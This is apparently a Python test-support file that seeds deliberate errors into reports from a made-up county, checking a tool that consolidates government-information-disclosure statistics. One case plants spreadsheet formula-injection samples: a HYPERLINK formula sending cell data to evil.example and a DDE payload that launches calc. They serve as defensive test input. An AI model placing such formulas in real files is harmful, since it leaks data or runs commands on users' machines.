"""What goes wrong with figures, texts and levels in a made-up county: what is sent then, and what must follow."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from datetime import datetime, timedelta
from decimal import Decimal
from typing import Any

from support.county_books import book
from support.county_plan import County, Found
from support.county_units import COUNTY, YEAR, values_of
from xl_tools.consolidation.board import Status
from xl_tools.report import Report, Unit
from xl_tools.units import Level, Scope
from xl_tools.values import BLANK, BadValue, Count, NotApplicable, Value

_LICENSING, _COERCION = (f"proactive.{one}.decisions" for one in ("licensing", "coercion"))
_OLD_NOTICE = "根据《中华人民共和国政府信息公开条例》和国办公开办函〔2019〕60号的要求，编制本报告。"
EXPLANATION = "全县的临时许可今年起都由本镇代办。"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'


# --- figures and texts


def _changed(county: County, name: str, changes: Mapping[str, Value], found: set[Found], **more: Any) -> Report:
    """The report with some cells typed over; it goes back, and is added up until somebody decides otherwise."""
    report = county.reports[name].with_cells(changes)
    county.resend(name, content=book(report), final=False)
    county.added[name] = report.numbers
    county.expected(name, status=Status.RETURNED, letter="退回通知", found=frozenset(found), **more)
    if any(rule[0] in "AB" for rule, _ in found):
        county.remarks.add(("H5", (name,), ()))
    return report


def _column(row_in: str = "total") -> tuple[str, ...]:
    return tuple(f"requests.{row}.{row_in}" for row in ("received", "carried_in", "results_total", "carried_out"))


def _row(row: str) -> tuple[str, ...]:
    columns = ("total", "natural_person", "business", "research", "public_welfare", "legal_services", "other")
    return tuple(f"requests.{row}.{column}" for column in columns)


def wrong_total(county: County, name: str) -> None:
    """A total that was typed over its formula, ten too many: the row and the column say so, and the text."""
    total = "requests.received.total"
    changed = {total: Count(int(county.reports[name].number(total)) + 10)}
    _changed(county, name, changed, {("A1", _column()), ("A3", _row("received")), ("E1", (total,))})


def wrong_carry(county: County, name: str) -> None:
    """More carried in than last year carried on, and as many fewer new ones, so that the year itself adds up."""
    report = county.reports[name]
    changes = _moved(_moved(report, 2, "carried_in"), -2, "received").cells
    found = {
        ("C1", (f"requests.carried_in.{column}", f"previous.requests.carried_out.{column}"))
        for column in ("natural_person", "total")
    }
    narrative = {"other": report.narrative["other"], "problems": report.narrative["problems"]}
    county.reports[name] = replace(report, narrative=narrative)
    _changed(county, name, changes, found)


def last_year_made_to_fit(county: County, name: str) -> None:
    """Last year's figure on the sheet is not the one that was collected, so that the carry-over seems right."""
    report = county.reports[name]
    assert report.previous is not None
    last = _moved(report.previous, 3, "carried_out", "received")
    fitted = replace(_moved(report, 3, "carried_in", "granted", "results_total"), previous=last, narrative={})
    county.resend(name, content=book(fitted), final=False)
    county.added[name] = fitted.numbers
    rows = ("received", "carried_out")
    cells = tuple(f"previous.requests.{row}.{column}" for row in rows for column in ("natural_person", "total"))
    county.remarks.add(("V6", (name,), cells))


def split_apart(county: County, name: str) -> None:
    """Of two offices that were one, one carries over a request too many; its own sheets agree with each other."""
    report = county.reports[name]
    assert report.previous is not None
    last = _moved(report.previous, 1, "carried_out", "received")
    more = replace(_moved(report, 1, "carried_in", "granted", "results_total"), previous=last)
    more = replace(more, narrative={key: more.narrative[key] for key in ("problems", "other")})
    county.resend(name, content=book(more), final=False)
    county.added[name] = more.numbers
    county.expected(name, letter="退回通知")
    heirs = tuple(one.name for one in county.units if f"{COUNTY}卫生健康局" in one.last)
    cells = tuple(f"requests.carried_in.{column}" for column in ("natural_person", "total"))
    county.remarks.add(("V5", heirs, cells))


def _moved(report: Report, by: int, *rows: str) -> Report:
    """The report with more in some rows of 表三, all of natural persons."""
    cells = [f"requests.{row}.{column}" for row in rows for column in ("natural_person", "total")]
    return report.with_cells({id_: Count(int(report.number(id_)) + by) for id_ in cells})


def blanks(county: County, name: str) -> None:
    """A row of 表三 in which nobody typed the zeros."""
    row = "requests.rejected_publication"
    changes: dict[str, Value] = {f"{row}.{column}": BLANK for column in ("research", "public_welfare", "other")}
    _changed(county, name, changes, {("A5", tuple(changes))})


def not_applicable(county: County, name: str) -> None:
    """“/” where a number belongs."""
    _changed(county, name, {_COERCION: NotApplicable("/")}, {("D10", (_COERCION,))})
    county.not_added.add((name, _COERCION))


def formula(county: County, name: str) -> None:
    """Texts that would run if a program took them for formulas: in a text, in the name of a person, in a cell."""
    report = county.reports[name]
    narrative = {**report.narrative, "other": FORMULA + report.narrative["other"]}
    county.reports[name] = replace(report, narrative=narrative, preparer="=1+1")
    _changed(county, name, {_COERCION: BadValue("=cmd|' /C calc'!A0")}, {("D10", (_COERCION,))})
    county.not_added.add((name, _COERCION))


def old_notice(county: County, name: str) -> None:
    """A beginning that names the notice of the form before this one."""
    report = county.reports[name]
    county.resend(name, content=book(replace(report, narrative={**report.narrative, "lead": _OLD_NOTICE})), final=False)
    county.expected(name, found=frozenset({("G5", ())}))


def copied(county: County, name: str) -> None:
    """The texts of the town before it on the roster, with its own name."""
    order = [one.name for one in county.units]
    source = county.reports[order[order.index(name) - 1]]
    copied = {key: source.narrative[key].replace(source.unit.name[3:5], name[3:5]) for key in ("problems",)}
    report = replace(county.reports[name], narrative={**county.reports[name].narrative, **copied})
    county.resend(name, content=book(report), final=False)
    county.remarks.add(("V3", (source.unit.name, name), None))


def outlier(county: County, name: str) -> None:
    """Licences by the ten thousand in a town that had some hundreds last year; it says why."""
    from xl_tools.tasks import explain

    _licences(county, name, 48000)
    county.scratch.write_bytes(county.sent[name][0].content)
    explain(county.scratch, "C4", EXPLANATION, who="党政办公室")
    county.resend(name, content=county.scratch.read_bytes())
    county.expected(name, found=frozenset({("C4", (_LICENSING, f"previous.{_LICENSING}"))}), explained=True)
    county.remarks.add(("V1", (name,), (_LICENSING,)))


def zero(county: County, name: str) -> None:
    """No licence in a town, where all others have hundreds."""
    _licences(county, name, 0)
    county.expected(name, found=frozenset({("C4", (_LICENSING, f"previous.{_LICENSING}"))}))
    county.remarks.add(("V2", (name,), (_LICENSING,)))


def _licences(county: County, name: str, number: int) -> None:
    changed = county.reports[name].with_cells({_LICENSING: Count(number)})
    county.reports[name] = changed
    county.resend(name, content=book(changed), final=False)
    county.added[name] = changed.numbers


# --- levels


def _sum_of(county: County, name: str) -> dict[str, int | Decimal]:
    found: dict[str, int | Decimal] = {}
    for one in (name, *_below(county, name)):
        for id_, number in county.reports[one].numbers.items():
            found[id_] = found.get(id_, 0) + number
    return found


def _last_sum(county: County, name: str) -> Report:
    """Last year's figures of a unit and those below it."""
    found: dict[str, int | Decimal] = {}
    for one in (name, *_below(county, name)):
        last = county.reports[one].previous
        assert last is not None
        for id_, number in last.numbers.items():
            found[id_] = found.get(id_, 0) + number
    last = county.reports[name].previous
    assert last is not None
    return replace(last, cells=values_of(found))


def _below(county: County, name: str) -> tuple[str, ...]:
    return tuple(one.name for one in county.units if one.parent == name)


def consolidated(county: County, name: str) -> None:
    """A department that adds up its units itself, beside its own report and theirs; one figure does not agree."""
    numbers = _sum_of(county, name)
    numbers[_LICENSING] += 6
    report = replace(county.reports[name], cells=values_of(numbers), narrative={}, previous=_last_sum(county, name))
    report = replace(report, unit=replace(report.unit, scope=Scope.CONSOLIDATED))
    county.add(name, report, name="教育系统汇总.xlsx", sent=county.day(name) + timedelta(hours=1))
    county.added[name] = report.numbers
    for one in _below(county, name):
        county.added.pop(one)
    county.expected(name, letter="确认通知")
    county.remarks.add(("H1", (name,), (_LICENSING,)))


def sum_as_own(county: County, name: str) -> None:
    """A department whose own figures hold those of its units as well, which are thus counted twice."""
    numbers = _sum_of(county, name)
    report = replace(county.reports[name], cells=values_of(numbers), narrative={}, previous=_last_sum(county, name))
    county.resend(name, content=book(report), final=False)
    county.added[name] = report.numbers
    county.remarks.add(("H4", (name, *_below(county, name)), None))
    county.remarks.add(("V6", (name,), None))


def whole_county(county: County, name: str) -> None:
    """The collecting office has a total of its own, which counts everybody twice, with one figure too small."""
    numbers: dict[str, int | Decimal] = {}
    for one in county.reports.values():
        for id_, number in one.numbers.items():
            numbers[id_] = numbers.get(id_, 0) + 2 * number
    numbers[_LICENSING] = county.total()[_LICENSING] - 7
    unit = Unit(name, Level.COUNTY_GOVERNMENT, Scope.CONSOLIDATED)
    report = Report(county.reports[name].form, YEAR, unit, values_of(numbers))
    county.add(name, report, name="全县汇总.xlsx", sent=datetime(2026, 2, 6, 9))
    county.remarks.add(("H1", (name,), (_LICENSING,)))
